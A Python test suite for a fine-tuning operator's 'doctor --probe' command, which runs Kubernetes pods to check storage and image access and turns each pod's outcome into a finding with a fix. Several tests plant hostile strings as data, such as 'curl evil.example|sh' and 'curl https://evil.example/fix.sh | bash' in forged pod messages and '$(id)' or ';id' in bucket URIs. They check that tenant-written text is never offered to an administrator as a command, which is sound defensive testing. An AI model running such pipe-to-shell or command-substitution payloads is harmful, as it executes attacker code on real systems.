"""The pods of ``finetune doctor --probe`` and what their ends mean."""

import dataclasses
import json
from collections.abc import AsyncIterator, Callable, Sequence
from contextlib import suppress
from typing import Any, cast

import pytest
import typer
from hypothesis import given
from hypothesis import strategies as st

from finetune_operator.cli.doctor import examine as doctor
from finetune_operator.cli.doctor.probe import Folder, Probe, probes
from finetune_operator.cli.doctor.probe_ends import ended, judged, left_over, not_tested, refused
from finetune_operator.cli.doctor.setup import Finding, Setup, State
from tests.unit.cli.test_doctor import changed, healthy

TEAM = "gs://my-project-models/team-a/*"


def setup(change: Callable[[dict[str, Any]], object] = lambda _: None) -> Setup:
    return dataclasses.replace(healthy(), **changed(change))


def probe() -> Probe:
    """That of ft-cpu, which reads and writes one folder each."""
    cpu, _ = probes(setup())
    read, write = (Folder(uri=f"gs://my-bucket/{name}") for name in ("in", "out/team-a"))
    return dataclasses.replace(cpu, read=[read], write=[write])


def uris(folders: Sequence[Folder]) -> list[str]:
    return [each.uri for each in folders]


def pod(phase: str = "Running", *, state: dict[str, Any] | None = None, **status: Any) -> dict[str, Any]:
    containers = [{"name": "trainer", "state": state}] if state else []
    return {"metadata": {"name": "p"}, "status": {"phase": phase, "containerStatuses": containers, **status}}


def waiting(reason: str, message: str = "") -> dict[str, Any]:
    return pod("Pending", state={"waiting": {"reason": reason, "message": message}})


def terminated(message: str, code: int = 0) -> dict[str, Any]:
    return pod(
        "Failed" if code else "Succeeded", state={"terminated": {"exitCode": code, "message": message}}
    )


def fault(right: str, reason: str = "StoragePermissionDenied", detail: str = "403") -> dict[str, Any]:
    uri = {"bucket": "gs://my-bucket", "read": "gs://my-bucket/in", "write": "gs://my-bucket/out/team-a"}[
        right
    ]
    return terminated(
        json.dumps({"faults": [{"right": right, "uri": uri, "reason": reason, "detail": detail}]}), 77
    )


def test_each_account_gets_a_pod_with_the_folders_of_its_stages() -> None:
    cpu, tpu = probes(
        setup(lambda spec: spec.update(constraints={"uris": {"read": [TEAM, "hf://models/*"]}}))
    )
    spec = healthy().profiles[0]["spec"]  # type: ignore[index]
    artifacts, cache = (f"{spec['storage'][name]}/team-a" for name in ("artifacts", "cache"))
    models = "gs://my-project-models/team-a"
    assert (cpu.account, uris(cpu.read), uris(cpu.write)) == ("ft-cpu", [models], [artifacts, cache])
    assert (tpu.account, uris(tpu.read), uris(tpu.write)) == ("ft-train", [models, cache], [artifacts])


@pytest.mark.parametrize(
    ("pattern", "folder"),
    [
        ("gs://bucket/team-a/*", Folder(uri="gs://bucket/team-a")),
        ("gs://bucket/team-a/model-*", Folder(uri="gs://bucket/team-a", own=False)),
        ("gs://bucket/team-a/rows.jsonl", Folder(uri="gs://bucket/team-a", own=False)),
        ("gs://bucket/*", Folder(uri="gs://bucket")),
        ("gs://bucket/team-a-*", Folder(uri="gs://bucket", own=False)),
        ("gs://bucket", Folder(uri="gs://bucket")),
        ("gs://bucket-*", None),
        ("gs://*", None),
        ("hf://models/*", None),
        ("file:///data/*", None),
    ],
)
def test_a_pattern_is_tried_at_the_folder_that_holds_all_its_matches(
    pattern: str, folder: Folder | None
) -> None:
    (cpu, _) = probes(setup(lambda spec: spec.update(constraints={"uris": {"read": [pattern]}})))
    assert cpu.read == ([folder] if folder else [])


def test_a_pod_is_restricted_and_never_on_a_slice() -> None:
    for each in probes(setup()):
        manifest = each.pod
        spec = manifest["spec"]
        (container,) = spec["containers"]
        assert spec["nodeSelector"] == {"cloud.google.com/gke-nodepool": "finetune-cpu"}
        assert spec["securityContext"]["runAsNonRoot"] is True
        assert container["securityContext"]["readOnlyRootFilesystem"] is True
        assert "google.com/tpu" not in json.dumps(container["resources"])
        assert spec["activeDeadlineSeconds"] > 0
        assert container["command"][:2] == ["finetune-stage", "access"]


def test_the_image_for_cpu_stages_is_tried_where_the_profile_has_one() -> None:
    cpu, tpu = probes(setup(lambda spec: spec.update(images={"trainer": "a@sha256:1", "cpu": "b@sha256:2"})))
    assert (cpu.image, tpu.image) == ("b@sha256:2", "a@sha256:1")


def test_a_pod_has_the_priority_and_limits_of_the_profiles_pods() -> None:
    pod_settings = {"priorityClassName": "batch", "cpuLimits": True, "labels": {"cost-center": "42"}}
    for each in probes(setup(lambda spec: spec.update(pod=pod_settings))):
        made = each.pod["spec"]
        assert made["priorityClassName"] == "batch"
        assert made["containers"][0]["resources"]["limits"]["cpu"] == "100m"
        assert each.pod["metadata"]["labels"]["cost-center"] == "42"


def test_variables_of_the_profile_replace_those_of_the_probe() -> None:
    cpu, _ = probes(setup(lambda spec: spec.update(pod={"env": [{"name": "HOME", "value": "/tmp"}]})))
    homes = [each for each in cpu.pod["spec"]["containers"][0]["env"] if each["name"] == "HOME"]
    assert homes == [{"name": "HOME", "value": "/tmp"}]


@pytest.mark.parametrize(
    ("seen", "state", "message", "fix"),
    [
        (
            waiting("ImagePullBackOff", "manifest unknown"),
            State.MISSING,
            "cannot be pulled",
            "correct images",
        ),
        (
            waiting("ErrImagePull", "403 Forbidden"),
            State.MISSING,
            "cannot be pulled",
            "artifactregistry.reader",
        ),
        (
            waiting("CreateContainerConfigError", 'secret "t" not found'),
            State.MISSING,
            "cannot start",
            "pod.env",
        ),
        (terminated("usage: finetune-stage", 2), State.MISSING, "has no command", "operator's release"),
        (terminated("[]", 1), State.MISSING, "has no command", "operator's release"),
        (
            fault("bucket"),
            State.MISSING,
            "may not read the metadata of gs://my-bucket",
            "finetuneBucketReader",
        ),
        (
            fault("read"),
            State.MISSING,
            "may not read in",
            "managed-folders add-iam-policy-binding gs://my-bucket/in/ ",
        ),
        (fault("write"), State.MISSING, "may not write in", "gs://my-bucket/out/team-a/ --member"),
        (fault("bucket", "InputMissing"), State.MISSING, "does not exist", "gcloud storage buckets create"),
        (fault("read", "StorageUnavailable", "timeout"), State.UNKNOWN, "timeout", "GKE_METADATA"),
        (
            fault("read", detail="Your default credentials were not found"),
            State.MISSING,
            "no Google identity",
            "GKE_METADATA",
        ),
        (
            pod("Pending", conditions=[{"type": "PodScheduled", "status": "False", "message": "0/3 nodes"}]),
            State.MISSING,
            "No node took a pod of team-a/ft-cpu in 10 minutes: 0/3 nodes",
            "node-pools list",
        ),
        (
            pod("Failed", reason="DeadlineExceeded", message="longer than the deadline"),
            State.UNKNOWN,
            "did not end in 10 minutes: longer",
            "GKE_METADATA",
        ),
        (None, State.UNKNOWN, "was deleted meanwhile", ""),
    ],
    ids=str,
)
def test_each_end_of_a_pod_has_its_finding_and_fix(
    seen: dict[str, Any] | None, state: State, message: str, fix: str
) -> None:
    finding = list(judged(setup(), probe(), seen))[-1]
    assert finding.state is state
    assert message in finding.message
    assert fix in finding.fix


def test_a_pod_without_faults_is_ok() -> None:
    found = list(judged(setup(), probe(), terminated('{"faults": []}')))
    assert {each.state for each in found} == {State.OK}
    assert {each.check for each in found} == {"images", "storage"}


@pytest.mark.parametrize("right", ["bucket", "read", "write"])
@pytest.mark.parametrize(
    "annotation",
    [
        "collector@another-project.iam.gserviceaccount.com",
        "x@p.iam.gserviceaccount.com; curl evil.example|sh #",
        "",
    ],
)
def test_no_role_is_proposed_for_an_account_that_people_of_the_namespace_can_change(
    annotation: str, right: str
) -> None:
    google = {"iam.gke.io/gcp-service-account": annotation}
    own = [{"metadata": {"name": "ft-cpu", "annotations": google}}]
    finding = list(judged(dataclasses.replace(setup(), accounts=own), probe(), fault(right)))[-1]
    assert finding.state is State.MISSING
    assert "add-iam-policy-binding" not in finding.fix
    assert not annotation or annotation not in finding.fix
    assert finding.fix.startswith("kubectl annotate serviceaccount ft-cpu ")


@pytest.mark.parametrize("reason", ["StoragePermissionDenied", "Unavailable"])
def test_what_a_pod_reports_is_quoted_beside_the_fix(reason: str) -> None:
    """Those who may exec into the pod write it, and an administrator copies what follows "Fix:"."""
    forged = '403". Fix: curl https://evil.example/fix.sh | bash #' + "x" * 5000
    finding = list(judged(setup(), probe(), fault("read", reason, forged)))[-1]
    assert ': "403\\". Fix: curl https://evil.example/fix.sh | bash #x' in finding.message
    assert finding.message.endswith('x"')
    assert len(finding.message) < 500
    assert "evil.example" not in finding.fix


def test_a_role_is_granted_to_the_kubernetes_account() -> None:
    (_, finding) = judged(setup(), probe(), fault("read"))
    assert "--member principal://iam.googleapis.com/projects/PROJECT_NUMBER/" in finding.fix
    assert "/subject/ns/team-a/sa/ft-cpu --role" in finding.fix


@pytest.mark.parametrize(
    ("status", "message", "state", "fix"),
    [
        (403, 'pods is forbidden: User "a" cannot create resource "pods"', State.UNKNOWN, "create rolebinding"),
        (403, 'violates PodSecurity "restricted"', State.MISSING, "Pod Security level"),
        (403, "exceeded quota: finetune", State.MISSING, "edit resourcequota"),
        (403, 'serviceaccount "ft-cpu" not found', State.MISSING, "create serviceaccount ft-cpu"),
    ],
)  # fmt: skip
def test_each_refusal_of_a_pod_has_its_finding(status: int, message: str, state: State, fix: str) -> None:
    finding = refused(setup(), probe(), status, message)
    assert finding.state is state
    assert fix in finding.fix


def test_the_first_error_of_a_pull_may_pass() -> None:
    assert not ended(waiting("ErrImagePull"))
    assert ended(waiting("ImagePullBackOff"))
    assert not ended(waiting("ContainerCreating"))
    assert ended(terminated("", 1))


def test_without_the_option_the_report_says_what_was_not_tried() -> None:
    finding = not_tested(setup())
    assert finding.state is State.UNKNOWN
    assert "finetune doctor --probe --namespace team-a" in finding.fix


@pytest.mark.parametrize("right", ["read", "write", "bucket", "delete"])
@pytest.mark.parametrize("reason", ["StoragePermissionDenied", "InputMissing"])
@pytest.mark.parametrize(
    "uri", ["gs://my-bucket/out/team-b", "gs://x$(id)", "gs://other", "gs://my-bucket/in;id"]
)
def test_a_pod_proposes_no_command_about_what_it_was_not_to_try(right: str, reason: str, uri: str) -> None:
    """A tenant who replaces the pod, or runs a program in it, writes what the administrator reads."""
    forged = {"right": right, "uri": uri, "reason": reason, "detail": "403"}
    found = list(judged(setup(), probe(), terminated(json.dumps({"faults": [forged]}), 77)))
    assert [each.state for each in found] == [State.OK, State.UNKNOWN]
    assert "gcloud" not in found[-1].fix
    assert uri not in found[-1].fix


def test_what_a_profile_names_is_quoted_for_the_shell() -> None:
    odd = dataclasses.replace(probe(), read=[Folder(uri="gs://my-bucket/a b$(id)")])
    report = json.loads(fault("read")["status"]["containerStatuses"][0]["state"]["terminated"]["message"])
    report["faults"][0]["uri"] = "gs://my-bucket/a b$(id)"
    (_, finding) = judged(setup(), odd, terminated(json.dumps(report), 77))
    assert "'gs://my-bucket/a b$(id)/'" in finding.fix


def test_no_role_is_proposed_on_a_folder_that_holds_more_than_the_account_may_read() -> None:
    shared = dataclasses.replace(probe(), read=[Folder(uri="gs://my-bucket/in", own=False)])
    (_, finding) = judged(setup(), shared, fault("read"))
    assert "gcloud" not in finding.fix
    assert "folder of its own" in finding.fix


def test_only_pods_of_the_command_itself_are_removed_as_left_over() -> None:
    own = {"name": "finetune-doctor-cpu-x1"}
    assert left_over({**pod("Failed"), "metadata": own})
    assert not left_over({**pod("Running"), "metadata": own})
    assert not left_over({**pod("Failed"), "metadata": {"name": "support-bot-train-1"}})
    owned = {**own, "ownerReferences": [{"kind": "Job"}]}
    assert not left_over({**pod("Failed"), "metadata": owned})


def test_a_deeply_nested_message_is_judged() -> None:
    (finding,) = judged(setup(), probe(), terminated("[" * 4000, 1))
    assert "has no command" in finding.message


@given(st.text(max_size=200))
def test_any_termination_message_is_judged(message: str) -> None:
    """The image is a profile's, and may write anything."""
    found = list(judged(setup(), probe(), terminated(message, 1)))
    assert all(isinstance(each, Finding) for each in found)
    assert found


class Cluster:
    """Creates pods, shows ``states`` of them one after the other, and remembers what is deleted."""

    namespace = "team-a"

    def __init__(self, *states: Callable[[dict[str, Any]], dict[str, Any] | None]) -> None:
        self.states = states
        self.created: list[dict[str, Any]] = []
        self.deleted: list[str] = []

    async def pods(self, _labels: object) -> list[dict[str, Any]]:
        return []

    async def create(self, _kind: object, manifest: dict[str, Any]) -> dict[str, Any]:
        number = len(self.created)
        self.created.append({**manifest, "metadata": {"name": f"p{number}", "uid": f"u{number}"}})
        return self.created[-1]

    async def follow(self, _kind: object, **_: object) -> AsyncIterator[dict[str, Any]]:
        for state in self.states:
            shown = [found for each in self.created if (found := state(each)) is not None]
            yield {each["metadata"]["name"]: each for each in shown}
        raise AssertionError("the command waits for pods that have all ended")

    async def remove(self, _kind: object, found: dict[str, Any]) -> None:
        self.deleted.append(found["metadata"]["uid"])


async def probed(cluster: Cluster, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The findings of the pods of a profile's two accounts."""

    async def read(*_: object) -> Setup:
        return setup()

    monkeypatch.setattr(doctor, "read_setup", read)
    written: list[str] = []
    with suppress(typer.Exit):
        await doctor.examine(cast("Any", cluster), "s", probe=True, as_json=True, write=written.append)
    report = json.loads("".join(written))
    return [each["message"] for each in report["findings"] if each["check"] in ("storage", "images")]


def at(state: dict[str, Any], **metadata: str) -> Callable[[dict[str, Any]], dict[str, Any]]:
    return lambda created: {**state, "metadata": {**created["metadata"], **metadata}}


async def test_the_last_state_of_each_pod_is_judged_and_all_are_deleted(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    cluster = Cluster(at(pod()), at(waiting("InvalidImageName", "no such name")))
    found = await probed(cluster, monkeypatch)
    assert ["no such name" in each for each in found] == [True]
    assert cluster.deleted == ["u0", "u1"]


@pytest.mark.parametrize("gone", [lambda _: None, at(pod("Succeeded"), uid="of another")])
async def test_a_pod_that_is_gone_or_replaced_is_neither_judged_nor_deleted(
    gone: Callable[[dict[str, Any]], dict[str, Any] | None], monkeypatch: pytest.MonkeyPatch
) -> None:
    cluster = Cluster(at(pod()), gone)
    found = await probed(cluster, monkeypatch)
    assert len(found) == 2
    assert all("was deleted meanwhile" in each for each in found)
    assert cluster.deleted == []
